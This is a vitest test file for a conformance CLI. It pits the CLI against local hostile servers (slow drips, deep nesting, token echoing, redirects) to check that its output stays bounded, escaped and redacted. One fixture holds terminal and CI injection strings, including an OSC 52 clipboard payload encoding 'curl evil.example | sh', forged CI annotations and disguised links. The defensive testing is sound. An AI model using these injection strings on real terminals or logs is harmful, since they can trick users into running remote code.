import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createNetServer, type AddressInfo, type Server as NetServer, type Socket } from 'node:net';
import { existsSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { readTarGz } from '../../lib/certification/tar-reader.ts';
import { runCli, type CliResult } from '../support/cli.ts';
import { outsideCode } from '../support/markdown-outside-code.ts';

const TOKEN = 'asi_live_feedfacefeedfacefeedfacefeedface';

type Behaviour = (res: ServerResponse, req: IncomingMessage) => void;

async function serve(behaviour: Behaviour): Promise<{ url: string; server: Server; hits: () => number }> {
  let hits = 0;
  const server = createServer((req, res) => {
    hits += 1;
    req.resume();
    behaviour(res, req);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, server, hits: () => hits };
}

const servers: Server[] = [];

/** Answers the preflight (GET /health and GET /me) as an ASI server would; true when it did. */
function passesPreflight(req: IncomingMessage, res: ServerResponse): boolean {
  if (req.url !== '/v1/health' && req.url !== '/v1/me') return false;
  res.writeHead(200, { 'content-type': 'application/json' });
  res.end('{}');
  return true;
}
afterAll(async () => {
  for (const s of servers) {
    s.closeAllConnections();
    await new Promise((r) => s.close(r));
  }
});

async function certifyAgainst(behaviour: Behaviour) {
  const target = await serve(behaviour);
  servers.push(target.server);
  const out = mkdtempSync(join(tmpdir(), 'asi-hostile-'));
  const started = Date.now();
  const result = await runCli(['run', '--base-url', `${target.url}/v1`, '--suite', 'auth', '--suite', 'errors', '--suite', 'unauthenticated', '--timeout', '1', '--out', out, '-q'], {
    env: { ASI_TOKEN: TOKEN },
    timeoutMs: 90_000,
  });
  const runDir = readdirSync(out)[0];
  const report = runDir === undefined ? undefined : (JSON.parse(readFileSync(join(out, runDir, 'report.json'), 'utf8')) as { outcome: string });
  return { result, report, seconds: (Date.now() - started) / 1000, out: runDir === undefined ? out : join(out, runDir), target };
}

/** A hostile or broken target yields findings or inconclusive verdicts: never a crash, never a hang. */
describe('a hostile target', () => {
  test('that answers 200 with garbage gets failures, not a crash', async () => {
    // Past the preflight (which refuses a /me that is not JSON with one line), garbage everywhere.
    const { result, report } = await certifyAgainst((res, req) => {
      if (passesPreflight(req, res)) return;
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('\u0000\u00ff{not json at all');
    });
    expect(result.stderr).not.toContain('internal error');
    expect(result.code).toBe(1);
    expect(report?.outcome).toBe('not-conformant');
  });

  test('that sends a body larger than the cap is cut off, not read whole', async () => {
    const chunk = Buffer.alloc(1024 * 1024, 'x');
    const { result, report } = await certifyAgainst((res, req) => {
      if (passesPreflight(req, res)) return;
      res.writeHead(401, { 'content-type': 'application/json' });
      let sent = 0;
      const pump = (): void => {
        while (sent < 64 && res.write(chunk)) sent += 1;
        if (sent < 64) res.once('drain', pump);
        else res.end();
      };
      pump();
    });
    expect(result.stderr).not.toContain('internal error');
    expect([1, 3]).toContain(result.code);
    expect(report).toBeDefined();
  });

  test('that accepts connections and never answers is reported unreachable (exit 3), in every report too', async () => {
    const { result, seconds, report, out } = await certifyAgainst(() => {
      /* never answers */
    });
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE/);
    expect(seconds).toBeLessThan(60);
    expect(report?.outcome).toBe('unreachable');
    const md = readFileSync(join(out, 'summary.md'), 'utf8');
    expect(md).toMatch(/^## ⚠️ ASI v1: unreachable$/m);
    expect(md).toMatch(/^#1 GET http:\/\/127\.0\.0\.1:\d+\/v1\/health → no response \(ASI_DEADLINE\) · \d+ ms$/m);
    expect(md).toContain('< no response: ASI_DEADLINE: no response within the deadline of 1000 ms');
  });

  test('that answers /health but hangs on everything else is unreachable at the preflight (exit 3) within seconds', async () => {
    const { result, seconds } = await certifyAgainst((res, req) => {
      if (req.url === '/v1/health') res.end('{}');
    });
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE/);
    expect(seconds).toBeLessThan(20);
  });

  test('that stops answering mid-run ends the run within seconds (exit 3), with a report that says so', async () => {
    let requests = 0;
    const { result, report, out } = await certifyAgainst((res, req) => {
      requests += 1;
      // The preflight and a few requests get answers; then the target is gone for good.
      if (requests > 6) return;
      if (passesPreflight(req, res)) return;
      res.writeHead(401, { 'content-type': 'application/json' });
      res.end('{"error":{"code":"auth.token_missing","category":"permanent","message":"no","request_id":"r"}}');
    });
    expect(result.code).toBe(3);
    expect((report as { cutShort?: string } | undefined)?.cutShort).toMatch(/the target stopped answering/);
    expect(result.stdout).toMatch(/^INCOMPLETE: /m);
    // Behaviour, not speed: once four requests in a row went unanswered nothing more goes to the
    // dead target but what was already in flight (4 on an idle machine; the suites would send
    // dozens). How long that takes is the --timeout's business and the machine's pace.
    expect(requests - 6).toBeLessThanOrEqual(8);
    // Every report shows the cause and the exchanges that went unanswered; junit fails a case for it.
    const stopped = (report as { stopped?: { at: string; reason: string; exchanges: Array<{ response?: unknown; error?: { code: string } }> } } | undefined)?.stopped;
    expect(stopped?.at).toBe('suites');
    expect(stopped?.exchanges).toHaveLength(4);
    for (const e of stopped?.exchanges ?? []) expect([e.response, e.error?.code]).toEqual([undefined, 'ASI_DEADLINE']);
    const junit = readFileSync(join(out, 'junit.xml'), 'utf8');
    expect(junit).toMatch(/<testcase name="run cut short" classname="run"><failure message="the target stopped answering \(4 requests in a row without a response: ASI_DEADLINE\); the run was cut short" type="cut-short">/);
    expect(junit).toMatch(/→ no response \(ASI_DEADLINE\)/);
    const md = readFileSync(join(out, 'summary.md'), 'utf8');
    expect(md).toContain('### Cut short');
    expect(md).toMatch(/→ no response \(ASI_DEADLINE\)/);
    expect(readFileSync(join(out, 'report.html'), 'utf8')).toMatch(/<section id="stopped"><h2>Cut short<\/h2>.*→ no response \(ASI_DEADLINE\)/s);
  });

  test('that redirects the preflight is refused with one line (exit 2) and no request follows it', async () => {
    const elsewhere = await serve((res) => res.end('{}'));
    servers.push(elsewhere.server);
    const { result } = await certifyAgainst((res) => {
      res.writeHead(302, { location: `${elsewhere.url}/v1/me` });
      res.end();
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('redirects are never followed');
    expect(elsewhere.hits()).toBe(0);
    expect(result.stderr + result.stdout).not.toContain(TOKEN);
  });

  test('that redirects to another origin is not followed and gets no token', async () => {
    const elsewhere = await serve((res) => res.end('{}'));
    servers.push(elsewhere.server);
    const { result, out } = await certifyAgainst((res, req) => {
      if (passesPreflight(req, res)) return;
      res.writeHead(302, { location: `${elsewhere.url}/v1/me` });
      res.end();
    });
    expect(result.stderr).not.toContain('internal error');
    expect(result.code).toBe(1);
    expect(elsewhere.hits()).toBe(0);
    for (const f of readdirSync(out)) expect(readFileSync(join(out, f), 'utf8')).not.toContain(TOKEN);
  });
});

// Issue 9: hostile targets, with what these tests need beyond the ones above.

/** Exit codes the README defines. */
const README_EXIT_CODES = [0, 1, 2, 3];
const REPORT_FILES = ['report.json', 'junit.xml', 'summary.md', 'report.html', 'transcript.har', 'bundle.tar.gz'];

interface Target {
  url: string;
}

/** Serves `behaviour` until the file's servers are closed. */
async function serveTarget(behaviour: Behaviour): Promise<Target> {
  const target = await serve(behaviour);
  servers.push(target.server);
  return target;
}

const rawServers: NetServer[] = [];
afterAll(async () => {
  for (const s of rawServers) await new Promise((r) => s.close(r));
});

/** A target speaking raw bytes on each connection (what node:http would refuse to send). */
async function serveRaw(onSocket: (socket: Socket) => void): Promise<Target> {
  const sockets = new Set<Socket>();
  const server = createNetServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
    onSocket(socket);
  });
  rawServers.push(server);
  server.on('close', () => sockets.forEach((s) => s.destroy()));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

/** Writes `chunk` every `ms` until the client goes away. */
function drip(res: ServerResponse, chunk: string, ms: number): void {
  const timer = setInterval(() => res.write(chunk), ms);
  res.on('close', () => clearInterval(timer));
}

interface RunOptions {
  suites?: string[];
  timeoutS?: number;
  /** Message routes and a short rate-limit window (2 s) in a profile, instead of --base-url alone. */
  profile?: boolean;
  quiet?: boolean;
  cliTimeoutMs?: number;
}

interface Run {
  result: CliResult;
  report: { outcome: string; exitCode: number; results: Array<{ requirement: { id: string }; verdict: string; findings: Array<{ actual?: string; note?: string }> }> } | undefined;
  seconds: number;
  /** The run's folder, or the --out folder when no run folder was made. */
  out: string;
}

function profileFor(url: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'asi-hostile-profile-'));
  const file = join(dir, 'target.yaml');
  writeFileSync(
    file,
    [
      `base_url: ${url}/v1`,
      'tokens:',
      '  primary: { env: ASI_TOKEN }',
      'messages:',
      '  routes:',
      '    - path: /deal-agents/{agent_id}/messages',
      '      params: { agent_id: da_1 }',
      '      body: { message: "hello" }',
      'limits: { read: 600, write: 60, window_s: 2 }',
      '',
    ].join('\n'),
  );
  return file;
}

async function runAgainst(target: Target, options: RunOptions = {}): Promise<Run> {
  const out = mkdtempSync(join(tmpdir(), 'asi-hostile-'));
  const where = options.profile === true ? ['--config', profileFor(target.url)] : ['--base-url', `${target.url}/v1`];
  const suites = (options.suites ?? ['auth', 'errors', 'unauthenticated']).flatMap((s) => ['--suite', s]);
  const args = ['run', ...where, ...suites, '--timeout', String(options.timeoutS ?? 1), '--out', out, ...(options.quiet === false ? [] : ['-q'])];
  const started = Date.now();
  const result = await runCli(args, { env: { ASI_TOKEN: TOKEN }, timeoutMs: options.cliTimeoutMs ?? 60_000 });
  const runDir = readdirSync(out)[0];
  const reportFile = runDir === undefined ? undefined : join(out, runDir, 'report.json');
  const report = reportFile === undefined || !existsSync(reportFile) ? undefined : (JSON.parse(readFileSync(reportFile, 'utf8')) as Run['report']);
  return { result, report, seconds: (Date.now() - started) / 1000, out: runDir === undefined ? out : join(out, runDir) };
}

/** Every file the run left, dot files included. */
function filesOf(dir: string): string[] {
  return readdirSync(dir).map((f) => join(dir, f)).filter((f) => statSync(f).isFile());
}

function resultOf(run: Run, id: string): NonNullable<Run['report']>['results'][number] | undefined {
  return run.report?.results.find((r) => r.requirement.id === id);
}

// Issue 9: time and memory are bounded whatever the target does.
describe('a hostile target cannot stall the run or exhaust its memory', () => {
  test('a /health body dripped a byte a second is cut at the --timeout deadline (exit 3)', async () => {
    const { result, seconds } = await runAgainst(
      await serveTarget((res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        drip(res, ' ', 1000);
      }),
      { timeoutS: 2, cliTimeoutMs: 30_000 },
    );
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE: no complete answer within the deadline of 2000 ms \(HTTP 200, \d+ bytes of body received\)/);
    expect(seconds).toBeLessThan(15);
  });

  test('endless 103 Early Hints are cut at the --timeout deadline (exit 3)', async () => {
    const target = await serveRaw((socket) => {
      socket.on('data', () => undefined);
      const timer = setInterval(() => socket.write('HTTP/1.1 103 Early Hints\r\nlink: </style.css>; rel=preload\r\n\r\n'), 100);
      socket.on('close', () => clearInterval(timer));
    });
    const { result, seconds } = await runAgainst(target, { timeoutS: 2, cliTimeoutMs: 30_000 });
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE/);
    expect(seconds).toBeLessThan(15);
  });

  test('a flood of control characters, in events and in bodies past the cap, stays under 512 MiB over most suites and leaves bounded reports, no working files', async () => {
    // \x01 is one byte on the wire and six in any JSON file (`\u0001`): budgets counted in
    // characters would grow sixfold here.
    const events = Buffer.from(`data:${'\x01'.repeat(200)}\n\n`.repeat(200));
    const body = Buffer.alloc(5 * 1024 * 1024, 1);
    const target = await serveTarget((res, req) => {
      if (passesPreflight(req, res)) return;
      if (req.method === 'HEAD') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end();
        return;
      }
      // Reads get a 5 MiB body (the cap is 4 MiB); message turns and streams an endless stream.
      if (req.method === 'GET' && req.headers.accept !== 'text/event-stream') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(body);
        return;
      }
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      let open = true;
      res.on('close', () => (open = false));
      const pump = (): void => {
        while (open && res.write(events));
        if (open) res.once('drain', pump);
      };
      pump();
    });
    const suites = ['auth', 'errors', 'unauthenticated', 'openapi', 'conversation-rest', 'conversation-stream', 'conversation-async', 'ledger-bounds', 'ledger-cursor', 'ledger-growth', 'ledger-pagination', 'ledger-schema', 'ledger-window'];
    const run = await runAgainst(target, { profile: true, suites, timeoutS: 2, cliTimeoutMs: 180_000 });
    expect(run.result.stderr).not.toContain('internal error');
    expect([1, 3]).toContain(run.result.code);
    expect(run.result.peakRssKiB ?? 0).toBeGreaterThan(0);
    expect(run.result.peakRssKiB).toBeLessThan(512 * 1024);
    expect(run.report?.outcome).toBeDefined();
    const left = readdirSync(run.out).sort();
    expect(left).toEqual([...REPORT_FILES].sort());
    expect(statSync(join(run.out, 'transcript.har')).size).toBeLessThan(64 * 1024 * 1024);
  }, 240_000);
});

describe('a target that serves documents and bodies nested 100,000 deep', () => {
  test('gets findings and every report, never a stack overflow', async () => {
    const DEPTH = 100_000;
    // Each kind of nesting a walker may recurse on: objects, arrays, YAML flow collections.
    const deepObject = `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`;
    const deepArray = `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`;
    const target = await serveTarget((res, req) => {
      if (passesPreflight(req, res)) return;
      if (req.url === '/v1/openapi.json') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(deepObject);
      } else if (req.url === '/v1/openapi.yaml') {
        res.writeHead(200, { 'content-type': 'application/yaml' });
        // JSON is YAML too: a flow mapping nested as deep.
        res.end(deepObject);
      } else if (req.headers.authorization === undefined) {
        // An error envelope whose details nest without end.
        res.writeHead(401, { 'content-type': 'application/json' });
        res.end(`{"error":{"code":"auth.token_missing","category":"permanent","message":"m","request_id":"r","details":${deepObject}}}`);
      } else {
        // A ledger page (and every other answer) whose rows nest without end.
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(`{"operations":[${deepArray}],"next_cursor":null}`);
      }
    });
    const run = await runAgainst(target, { profile: true, suites: ['openapi', 'auth', 'errors', 'ledger-schema', 'unauthenticated', 'conversation-rest'], cliTimeoutMs: 90_000 });
    expect(run.result.stderr).not.toMatch(/internal error|call stack/i);
    expect([1, 3]).toContain(run.result.code);
    for (const file of ['report.json', 'junit.xml', 'transcript.har']) expect(existsSync(join(run.out, file))).toBe(true);
    for (const id of ['openapi/9.3/json-served', 'openapi/9.3/yaml-served', 'openapi/9.3/valid-oas']) {
      const result = resultOf(run, id);
      expect(result?.verdict).toBe('inconclusive');
    }
    expect(JSON.stringify(resultOf(run, 'openapi/9.3/json-served'))).toContain('nests deeper than 256 levels');
    expect(readFileSync(join(run.out, 'report.json'), 'utf8')).not.toMatch(/Maximum call stack/);
  }, 120_000);
});

// These mostly wait (on deadlines, on the pacer): side by side, they cost the file one of them.
describe.concurrent('a hostile target that makes the run wait', () => {
  test('bodies dripped on every route but the preflight end the run, with reports, within its budget', async ({ expect }) => {
    const run = await runAgainst(
      await serveTarget((res, req) => {
        if (passesPreflight(req, res)) return;
        res.writeHead(200, { 'content-type': 'application/json' });
        drip(res, ' ', 200);
      }),
      { cliTimeoutMs: 40_000 },
    );
    // GET /me answers without a token too, a real failure; whether the breaker trips before the
    // end depends on the order of requests: not conformant (1) or cut short (3), never a hang.
    expect([1, 3]).toContain(run.result.code);
    expect(['not-conformant', 'incomplete']).toContain(run.report?.outcome);
    expect(run.seconds).toBeLessThan(30);
  }, 45_000);

  test('a Reset in year 5138 and an hour of Retry-After cost the run a window each, and are reported', async ({ expect }) => {
    // Reads: served, but "nothing left until 5138". Writes: refused, "come back in an hour".
    const target = await serveTarget((res, req) => {
      if (passesPreflight(req, res)) return;
      const write = req.method !== 'GET' && req.method !== 'HEAD';
      const headers = { 'content-type': 'application/json', 'x-ratelimit-pool': write ? 'write' : 'read', 'x-ratelimit-limit': write ? '60' : '600', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': '99999999999' };
      if (write) {
        res.writeHead(429, { ...headers, 'retry-after': '3600' });
        res.end('{"error":{"code":"rate_limit.exceeded","category":"rate_limited","message":"come back in an hour","request_id":"r"}}');
      } else {
        res.writeHead(200, headers);
        res.end('{}');
      }
    });
    const run = await runAgainst(target, { profile: true, suites: ['errors', 'ratelimit-recovery'], cliTimeoutMs: 45_000 });
    expect(README_EXIT_CODES).toContain(run.result.code);
    // One window of 2 s for the reads, at most the window and its margin (7 s) once for the writes.
    expect(run.seconds).toBeLessThan(35);
    const observed = resultOf(run, 'ratelimit/8.1/unplanned-429');
    expect(observed?.verdict).toBe('warn');
    const said = observed?.findings.map((f) => f.actual ?? '').join(' ');
    expect(said).toContain('x-ratelimit-reset: 99999999999 on primary/read');
    expect(said).toContain('retry-after: 3600 on primary/write');
  }, 60_000);
});

// Issue 9: nothing the target sends can act on the reader's machine.
describe('target text cannot act on a terminal, a CI log or a rendered summary', () => {
  const NASTY = [
    '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', // OSC 52: write the clipboard
    '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', // OSC 8: a disguised link
    '\x1b[2J\x1b[H', // clear the screen
    '\u009b31m', // C1 CSI
    '\x07',
    'txt.\u202Eexe',
    '\n::error title=forged::forged annotation\n::add-mask::x',
    '##[error]forged',
    '\r\nCONFORMANT: 96 pass, 0 fail\n',
  ].join(' ');
  const MARKDOWN = '`<img src=https://evil.example/pixel.gif>`` ![p](https://evil.example/p.png) [x](https://evil.example) @octocat <b>b</b> | cell |';

  test('console lines escape controls, never start with target text, and summary.md keeps it inside code', async () => {
    const target = await serveTarget((res, req) => {
      // Past the preflight, every route answers with the text.
      if (passesPreflight(req, res)) return;
      res.writeHead(req.headers.authorization === undefined ? 400 : 200, { 'content-type': 'application/json', 'x-request-id': '::error::forged ##[warning]x' });
      // Raw control bytes in the body (not JSON escapes): they reach the failure's body excerpt.
      res.end(`{"error":{"code":"${NASTY}","category":${JSON.stringify(MARKDOWN)},"message":"m","request_id":${JSON.stringify(MARKDOWN)}}}`);
    });
    const run = await runAgainst(target, { suites: ['auth', 'errors'], quiet: false });
    expect(README_EXIT_CODES).toContain(run.result.code);
    const printed = `${run.result.stdout}\n${run.result.stderr}`;
    // Target text did reach the console, escaped.
    expect(printed).toContain('\\x1b]52;c;');
    // eslint-disable-next-line no-control-regex -- the point of the test
    expect(printed).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    for (const line of printed.split('\n')) {
      expect(line).not.toMatch(/^\s*::/);
      expect(line).not.toContain('##[');
      expect(line).not.toMatch(/^\s*CONFORMANT/);
    }

    const md = readFileSync(join(run.out, 'summary.md'), 'utf8');
    // Target text did reach the summary (its table cells are cut at 140 characters), escaped.
    expect(md).toContain('\\x1b]52;c;');
    // Outside fenced blocks and code spans, nothing of the target's text remains.
    const outside = outsideCode(md);
    for (const line of outside.lines) expect(line).not.toMatch(/evil\.example|<img|<b>|@octocat|\\x1b/);
    expect(outside.unclosed).toBe(false);
  });
});

describe('a target sending invisible format characters', () => {
  // Every bidirectional control and the other invisible format characters (Unicode category Cf).
  const INVISIBLE = ['\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200b', '\u200c', '\u200d', '\u2060', '\u2061', '\u2062', '\u2063', '\u2064', '\ufeff', '\u00ad', '\u180e', '\u{e0001}'].join('');
  const ANY_INVISIBLE = /\p{Cf}/u;

  test('never gets one into any output raw, and the bundle still verifies', async () => {
    const text = `invoice${INVISIBLE}fdp.exe`;
    const target = await serveTarget((res, req) => {
      if (passesPreflight(req, res)) return;
      // A header is Latin-1 on the wire: the soft hyphen as it is, the others as their UTF-8 bytes.
      res.writeHead(req.headers.authorization === undefined ? 400 : 200, { 'content-type': 'application/json', 'x-request-id': `r\u00ad${Buffer.from(INVISIBLE).toString('latin1')}` });
      res.end(JSON.stringify({ error: { code: text, category: text, message: text, request_id: text }, [text]: text }));
    });
    const run = await runAgainst(target, { profile: true, suites: ['auth', 'errors', 'unauthenticated'], quiet: false });
    expect(run.result.stderr).not.toContain('internal error');
    expect(readdirSync(run.out).sort()).toEqual([...REPORT_FILES].sort());
    const bundled = [...readTarGz(readFileSync(join(run.out, 'bundle.tar.gz'))).entries()].map(([name, bytes]) => [`bundle.tar.gz:${name}`, bytes.toString('utf8')] as const);
    const outputs = [['stdout', run.result.stdout], ['stderr', run.result.stderr], ...filesOf(run.out).filter((f) => !f.endsWith('.gz')).map((f) => [f, readFileSync(f, 'utf8')] as const), ...bundled];
    // The target's text did reach the reports, escaped.
    expect(readFileSync(join(run.out, 'report.json'), 'utf8')).toContain('invoice\\u061c\\u200e');
    for (const [name, content] of outputs) expect({ name, raw: ANY_INVISIBLE.exec(content)?.[0] }).toEqual({ name, raw: undefined });
    const verified = await runCli(['verify', join(run.out, 'bundle.tar.gz')], { timeoutMs: 60_000 });
    expect(verified.stdout).not.toMatch(/does not re-derive|differs|× /);
  });
});

// Issue 9: no token in any encoding, and no report suppression.
describe('a target echoing the token in every encoding', () => {
  const bearer = `Bearer ${TOKEN}`;
  const FORMS = [
    TOKEN.toUpperCase(),
    [...Buffer.from(TOKEN)].map((b) => `%${b.toString(16).toUpperCase()}`).join(''),
    Buffer.from(TOKEN).toString('base64'),
    Buffer.from(`x${bearer}`).toString('base64url'),
    Buffer.from(`xy${TOKEN}`).toString('base64'),
    Buffer.from(TOKEN).toString('hex'),
  ];
  const JSON_ESCAPED = [...TOKEN].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  // YAML's 8-digit escapes: the YAML parser decodes them, and a check quotes the decoded value.
  const YAML_ESCAPED = [...TOKEN].map((c) => `\\U${c.charCodeAt(0).toString(16).padStart(8, '0')}`).join('');

  test('never gets it into a report, a working file or a console line, and every report is written', async () => {
    const target = await serveTarget((res, req) => {
      if (passesPreflight(req, res)) return;
      if (req.url === '/v1/openapi.yaml') {
        res.writeHead(200, { 'content-type': 'application/yaml' });
        res.end(`openapi: "${YAML_ESCAPED}"\ninfo: { title: x, version: "1" }\npaths: {}\n`);
        return;
      }
      const echo = req.headers.authorization === bearer;
      // The token in a header's name as well as in a value.
      const headers = { 'content-type': 'application/json', 'x-echo': echo ? FORMS[1]! : 'none', 'x-request-id': 'r', ...(echo ? { [`x-echo-${TOKEN}`]: '1' } : {}) };
      if (echo && req.method === 'POST') {
        // The token streamed as three text deltas of one message, the middle one JSON-escaped.
        res.writeHead(200, { ...headers, 'content-type': 'text/event-stream' });
        const middle = [...TOKEN.slice(15, 28)].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
        for (const data of [JSON.stringify({ id: 'msg_1', content: TOKEN.slice(0, 15) }), `{"id":"msg_1","content":"${middle}"}`, JSON.stringify({ id: 'msg_1', content: TOKEN.slice(28) })]) {
          res.write(`event: text_delta\ndata: ${data}\n\n`);
        }
        res.end(`event: done\ndata: ${JSON.stringify({ conversation_id: 'c', messages: [] })}\n\n`);
        return;
      }
      // The code comes back in the findings' Actual line, decoded from JSON by the checker.
      res.writeHead(echo ? 200 : 401, headers);
      res.end(`{"error":{"code":"${echo ? JSON_ESCAPED : 'auth.token_missing'}","category":"permanent","message":"${FORMS.join(' ')}","request_id":"r"}}`);
    });
    const run = await runAgainst(target, { profile: true, suites: ['auth', 'errors', 'conversation-stream', 'openapi'], quiet: false });
    expect(run.result.stderr).not.toMatch(/would contain secret|internal error/);
    expect(run.result.code).toBe(1);
    expect(readdirSync(run.out).sort()).toEqual([...REPORT_FILES].sort());
    // The bundle is compressed: its files are read unpacked (the exchange record among them).
    const bundled = [...readTarGz(readFileSync(join(run.out, 'bundle.tar.gz'))).values()].map((b) => b.toString('utf8'));
    const texts = [run.result.stdout, run.result.stderr, ...filesOf(run.out).map((f) => readFileSync(f, 'utf8')), ...bundled];
    // The placeholder stands where the token was.
    expect(texts.join('\n')).toContain('$ASI_TOKEN');
    for (const text of texts) {
      expect(text.toLowerCase()).not.toContain('feedface');
      for (const form of [...FORMS, JSON_ESCAPED, JSON_ESCAPED.replace(/\\/g, '\\\\'), YAML_ESCAPED, YAML_ESCAPED.replace(/\\/g, '\\\\')]) expect(text).not.toContain(form);
    }
  });
});
